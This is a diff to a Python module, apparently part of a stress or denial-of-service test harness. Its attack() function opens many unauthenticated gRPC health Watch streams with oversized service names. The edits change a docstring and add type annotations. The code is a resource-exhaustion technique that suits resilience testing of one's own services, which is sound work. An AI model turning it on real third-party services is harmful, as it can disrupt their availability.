@@ -1,9 +1,10 @@
-"""A stranger without a certificate watches the health of services with very long names, on many streams."""
+"""Watch the health of services with very long names on many streams, without a certificate."""
 
 from __future__ import annotations
 
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
 from contextlib import ExitStack
+from typing import Any
 
 import grpc
 from grpc_health.v1 import health_pb2
@@ -35,6 +36,8 @@ def attack(target: Target, until: Callable[[], bool]) -> None:
 _OWN = (("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1))
 
 
-def _watch(channel: grpc.Channel, prefix: str) -> grpc.UnaryStreamMultiCallable:
+def _watch(channel: grpc.Channel, prefix: str) -> Iterator[bytes]:
     request = health_pb2.HealthCheckRequest(service=prefix + "x" * NAME_BYTES)
-    return channel.unary_stream(_WATCH, lambda message: message.SerializeToString(), None)(request, timeout=20)
+    watch: Any = channel.unary_stream(_WATCH, lambda message: message.SerializeToString(), None)
+    answers: Iterator[bytes] = watch(request, timeout=20)
+    return answers
